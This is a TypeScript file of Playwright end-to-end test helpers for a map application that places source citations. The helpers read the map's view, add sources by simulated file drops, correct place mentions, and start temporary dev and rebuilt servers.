/** The map's view as the URL holds it: zoom, lat, lon. */
export function mapView(page: Page): Promise<{ zoom: number; lat: number; lon: number }> {
  return currentView(page);
}

/** Waits until the map's view in the URL has left `from` and settled; false if it never moves. */
export async function waitForViewChange(page: Page, from: string, ms = 5000): Promise<boolean> {
  const start = Date.now();
  while (Date.now() - start < ms) {
    if ((await page.evaluate(() => location.hash)) !== from) {
      await waitForMapIdle(page);
      return true;
    }
    await page.waitForTimeout(100);
  }
  return false;
}

/** What the header says: mentions shown and places named. */
export async function headerCounts(page: Page): Promise<{ mentions: number; places: number }> {
  return {
    mentions: Number(await page.getByTestId('visible-count').textContent()),
    places: Number(await page.getByTestId('place-count').textContent()),
  };
}

/** How many places the places list says it holds. */
export async function placesListed(page: Page): Promise<number> {
  return Number(await page.getByTestId('places-count').textContent());
}

/** The kind word the places list shows beside a place ("province", "district"). */
export async function listedKind(page: Page, placeName: string, placeId: string): Promise<string> {
  await page.getByTestId('place-search').fill(placeName);
  const kind = await page
    .locator(`[data-testid="place-list"] button[data-place-id="${placeId}"] .kind`)
    .textContent();
  await page.getByTestId('place-search').fill('');
  return kind ?? '';
}

/** The line under a source's title in the source list (author, publisher, date, count). */
export async function sourceLine(page: Page, sourceId: string): Promise<string> {
  const box = page.locator(`input[type="checkbox"][data-source-id="${sourceId}"]`);
  const id = await box.getAttribute('aria-describedby');
  return (await page.locator(`[id="${id}"]`).textContent()) ?? '';
}

/** The From and To year fields as shown. */
export async function yearRange(page: Page): Promise<{ from: number; to: number }> {
  return {
    from: Number(await page.getByTestId('year-from').inputValue()),
    to: Number(await page.getByTestId('year-to').inputValue()),
  };
}

/** Whether the legend is unfolded. */
export function legendIsOpen(page: Page): Promise<boolean> {
  return page.getByTestId('legend').evaluate((d) => (d as HTMLDetailsElement).open);
}

/** Whether a popup is shown on the map. */
export async function popupShown(page: Page): Promise<boolean> {
  return (await page.getByTestId('popup').count()) > 0;
}

/**
 * The names the map draws now in the given layers (labels are canvas pixels, so the map's
 * wrapper answers for them: MapHost in src/app/map/MapView.ts).
 */
export async function renderedNames(page: Page, layers: readonly string[]): Promise<string[]> {
  return page
    .getByTestId('map')
    .evaluate((el, ids) => (el as MapHost).renderedNames?.(ids) ?? [], [...layers] as string[]);
}

/** The town labels of the basemap drawn now (the towns no source names). */
export function renderedTownNames(page: Page): Promise<string[]> {
  return renderedNames(page, TOWN_LAYERS);
}

/** The names of the places the sources cite, as the map labels them now. */
export function renderedPlaceNames(page: Page): Promise<string[]> {
  return renderedNames(page, PLACE_NAME_LAYERS);
}

/**
 * Opens the panel's "How was this placed?" by keyboard (Tab to it, Enter) and reads it; the
 * text is null while it is folded.
 */
export async function openProvenance(page: Page): Promise<{ wasOpen: boolean; text: string }> {
  const details = page.getByTestId('place-panel').getByTestId('provenance');
  const wasOpen = await details.evaluate((d) => (d as HTMLDetailsElement).open);
  await details.locator('summary').focus();
  await page.keyboard.press('Enter');
  await details.locator('dl').waitFor({ state: 'visible' });
  await page.locator(`[data-testid="provenance"]${QUOTES_IN}`).waitFor();
  return { wasOpen, text: (await details.innerText()).replace(/\s+/g, ' ') };
}

/**
 * A copy of the project served as `npm start` serves it (the data built, then Vite's dev
 * server with the write path), so tests that add sources or save corrections never write into
 * this repository's data/. node_modules and the caches are linked, not copied.
 */
export async function startDevServerCopy(): Promise<{
  url: string;
  root: string;
  stop(): Promise<void>;
}> {
  const repo = path.resolve('.');
  const root = mkdtempSync(path.join(tmpdir(), 'citemap-dev-'));
  for (const name of [
    'index.html',
    'package.json',
    'package-lock.json',
    'tsconfig.json',
    'vite.config.ts',
  ]) {
    cpSync(path.join(repo, name), path.join(root, name));
  }
  cpSync(path.join(repo, 'src'), path.join(root, 'src'), { recursive: true });
  cpSync(path.join(repo, 'data/sources'), path.join(root, 'data/sources'), { recursive: true });
  cpSync(path.join(repo, 'data/gazetteer'), path.join(root, 'data/gazetteer'), { recursive: true });
  for (const name of ['config.json', 'favicon.svg']) {
    cpSync(path.join(repo, 'public', name), path.join(root, 'public', name));
  }
  symlinkSync(path.join(repo, 'node_modules'), path.join(root, 'node_modules'), 'dir');
  // The caches (gazetteer, basemap) are shared: their keys do not depend on the folder.
  mkdirSync(path.join(repo, '.cache'), { recursive: true });
  symlinkSync(path.join(repo, '.cache'), path.join(root, '.cache'), 'dir');
  await execFileAsync(process.execPath, ['--import', 'tsx', 'src/pipeline/cli/build.ts'], {
    cwd: root,
  });
  const vite = spawn(
    process.execPath,
    ['node_modules/vite/bin/vite.js', '--host', '127.0.0.1', '--port', '0'],
    { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] },
  );
  const url = await new Promise<string>((resolve, reject) => {
    let output = '';
    const timer = setTimeout(
      () => reject(new Error(`e2e: vite did not start:\n${output}`)),
      60_000,
    );
    vite.stdout.on('data', (chunk: Buffer) => {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: Vite colours its output.
      output += chunk.toString('utf8').replace(/\u001b\[[0-9;]*m/g, '');
      const found = /http:\/\/127\.0\.0\.1:\d+\//.exec(output);
      if (found) {
        clearTimeout(timer);
        resolve(found[0]);
      }
    });
    vite.on('exit', (code) => reject(new Error(`e2e: vite exited (${code}):\n${output}`)));
  });
  return {
    url,
    root,
    async stop() {
      const exited = new Promise((resolve) => vite.once('exit', resolve));
      vite.kill('SIGTERM');
      await exited;
      rmSync(root, { recursive: true, force: true });
    },
  };
}

export async function addSourceButtonShown(page: Page): Promise<boolean> {
  return (await page.getByTestId('add-source-button').count()) > 0;
}

/** Drops files on the "Add source" dialog as a user drags them from a file manager. */
export async function dropFilesToAdd(page: Page, files: readonly string[]): Promise<void> {
  if (
    !(await page
      .getByTestId('add-source-dialog')
      .isVisible()
      .catch(() => false))
  ) {
    await page.getByTestId('add-source-button').click();
  }
  const payload = files.map((file) => ({
    name: path.basename(file),
    base64: readFileSync(file).toString('base64'),
  }));
  const zone = page.getByTestId('add-source-drop');
  const transfer = await page.evaluateHandle((items) => {
    const data = new DataTransfer();
    for (const { name, base64 } of items) {
      const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
      data.items.add(new File([bytes], name));
    }
    return data;
  }, payload);
  await zone.dispatchEvent('dragover', { dataTransfer: transfer });
  await zone.dispatchEvent('drop', { dataTransfer: transfer });
}

/** The dialog's lines once `count` of them are done (added or failed). */
export async function addOutcomes(
  page: Page,
  count: number,
): Promise<{ outcome: string; text: string }[]> {
  const done = '[data-testid="add-source-status"] li:not([data-outcome="working"])';
  await page.waitForFunction(
    (n) => document.querySelectorAll(n.done).length >= n.count,
    {
      done,
      count,
    },
    { timeout: 120_000 },
  );
  return page.locator('[data-testid="add-source-status"] li').evaluateAll((items) =>
    items.map((li) => ({
      outcome: li.getAttribute('data-outcome') ?? '',
      text: li.textContent ?? '',
    })),
  );
}

export async function closeAddDialog(page: Page): Promise<void> {
  await page.getByTestId('add-source-close').click();
}

/** The titles in the source list, in order. */
export async function sourceTitles(page: Page): Promise<string[]> {
  return page.locator('[data-testid="source-filter"] label').allTextContents();
}

/** Whether the place list finds a place of this name (searched for, then the search cleared). */
export async function placeListed(page: Page, name: string): Promise<boolean> {
  await page.getByTestId('place-search').fill(name);
  const names = await page
    .locator('[data-testid="place-list"] button[data-place-id]')
    .allTextContents();
  await page.getByTestId('place-search').fill('');
  return names.some((text) => text.includes(name));
}

// --- Review and correct ---------------------------------------------------------------------

export type Correction =
  | { alternative: string }
  | { search: string; placeId: string }
  | 'not-a-place'
  | 'accept';

/** Corrects a mention shown in the open place panel, through its "Correct…". */
export async function correctPanelMention(
  page: Page,
  mentionId: string,
  how: Correction,
): Promise<void> {
  const item = page.locator(`[data-testid="panel-mention"][data-mention-id="${mentionId}"]`);
  await item.getByTestId('correct-open').click();
  const panel = item.getByTestId('correct-panel');
  await chooseCorrection(panel, how);
  await item.getByTestId('pending-correction').waitFor();
}

async function chooseCorrection(
  panel: ReturnType<Page['locator']>,
  how: Correction,
): Promise<void> {
  if (how === 'not-a-place') await panel.getByTestId('correct-not-place').click();
  else if (how === 'accept') await panel.getByTestId('correct-accept').click();
  else if ('alternative' in how)
    await panel
      .locator(`[data-testid="correct-alternative"][data-place-id="${how.alternative}"]`)
      .click();
  else await searchAndChoose(panel, how.search, how.placeId);
}

async function searchAndChoose(
  scope: ReturnType<Page['locator']>,
  query: string,
  placeId: string,
): Promise<void> {
  await scope.getByTestId('gazetteer-search').fill(query);
  await scope
    .locator(`[data-testid="gazetteer-search-result"][data-place-id="${placeId}"]`)
    .click({ timeout: 30_000 });
}

/** Adds a place no gazetteer has: "Add a place on the map", a click there, its name and kind. */
export async function addPlaceOnMap(
  page: Page,
  place: { name: string; kind: string; lon: number; lat: number },
): Promise<{ country: string }> {
  await page.getByTestId('add-place-start').click();
  await page.getByTestId('add-place-form').waitFor();
  await clickMapAt(page, place.lon, place.lat);
  await page.getByTestId('add-place-name').fill(place.name);
  await page.getByTestId('add-place-kind').selectOption(place.kind);
  // The country is guessed from the nearest known town.
  await page.waitForFunction(
    () =>
      (document.querySelector('[data-testid="add-place-country"]') as HTMLInputElement | null)
        ?.value !== '',
    undefined,
    { timeout: 30_000 },
  );
  const country = await page.getByTestId('add-place-country').inputValue();
  await page.getByTestId('add-place-save').click();
  await page.getByTestId('place-added').waitFor();
  return { country };
}

/**
 * In the open reader, selects the first plain (unmarked) occurrence of `words` and marks it
 * as a mention of the place found by `query`. Returns the words' offset in the text.
 */
export async function markAsPlace(
  page: Page,
  words: string,
  query: string,
  placeId: string,
): Promise<number> {
  const start = await page.evaluate((w) => {
    const body = document.querySelector('[data-testid="reader-body"]');
    for (const span of body?.querySelectorAll('span[data-offset]') ?? []) {
      const node = span.firstChild;
      const at = node?.textContent?.indexOf(w) ?? -1;
      if (!node || at < 0) continue;
      const range = document.createRange();
      range.setStart(node, at);
      range.setEnd(node, at + w.length);
      const selection = document.getSelection();
      selection?.removeAllRanges();
      selection?.addRange(range);
      return Number(span.getAttribute('data-offset')) + at;
    }
    return -1;
  }, words);
  if (start < 0) throw new Error(`e2e: "${words}" is not plain text in the reader`);
  await page.locator('[data-testid="mark-as-place"][data-has-selection="true"]').click();
  await searchAndChoose(page.getByTestId('mark-place'), query, placeId);
  return start;
}

/** The corrections files a static build offers for download: where each goes, and its text. */
export async function correctionFiles(page: Page): Promise<{ path: string; text: string }[]> {
  return page.getByTestId('correction-file').evaluateAll((links) =>
    links.map((a) => ({
      path: a.getAttribute('data-path') ?? '',
      text: decodeURIComponent((a.getAttribute('href') ?? '').replace(/^data:[^,]*,/, '')),
    })),
  );
}

/**
 * The built app with data rebuilt by the real pipeline (`npm run data`) from the project's
 * sources plus `files` (data/corrections/…, data/user-places.json), as a user would after
 * putting the downloaded files into data/.
 */
export async function serveRebuiltSite(
  files: readonly { path: string; text: string }[],
): Promise<{ url: string; dataDir: string; close(): Promise<void> }> {
  const { cp, mkdir, mkdtemp, rm, writeFile } = await import('node:fs/promises');
  const { tmpdir } = await import('node:os');
  const { execFileSync } = await import('node:child_process');
  const project = await mkdtemp(path.join(tmpdir(), 'citemap-project-'));
  await cp(path.resolve('data/sources'), path.join(project, 'data', 'sources'), {
    recursive: true,
  });
  for (const f of files) {
    if (!/^data\/(corrections\/[a-z0-9-]+\.json|user-places\.json)$/.test(f.path))
      throw new Error(`e2e: unexpected file ${f.path}`);
    await mkdir(path.dirname(path.join(project, f.path)), { recursive: true });
    await writeFile(path.join(project, f.path), f.text);
  }
  const site = await serveChangedSite(false, async (root) => {
    execFileSync(
      'npx',
      [
        'tsx',
        'src/pipeline/cli/build.ts',
        '--sources',
        path.join(project, 'data', 'sources'),
        '--out',
        path.join(root, 'data'),
      ],
      { stdio: 'inherit' },
    );
  });
  return {
    url: site.url,
    dataDir: path.join(site.root, 'data'),
    async close() {
      await site.close();
      await rm(project, { recursive: true, force: true });
    },
  };
}
